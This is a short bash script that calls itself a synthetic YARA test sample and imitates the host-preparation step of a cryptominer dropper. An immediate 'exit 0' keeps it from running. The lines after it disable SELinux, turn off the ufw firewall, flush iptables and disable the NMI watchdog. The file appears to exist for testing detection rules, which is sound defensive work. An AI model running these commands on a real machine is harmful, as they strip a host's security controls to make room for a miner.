#!/bin/bash
exit 0  # ferret YARA test sample: synthetic, never run (host preparation of a miner dropper)
setenforce 0 2>/dev/null
echo SELINUX=disabled > /etc/selinux/config 2>/dev/null
ufw disable >/dev/null 2>&1
iptables -F 2>/dev/null
echo 0 > /proc/sys/kernel/nmi_watchdog
echo 'kernel.nmi_watchdog=0' >> /etc/sysctl.conf
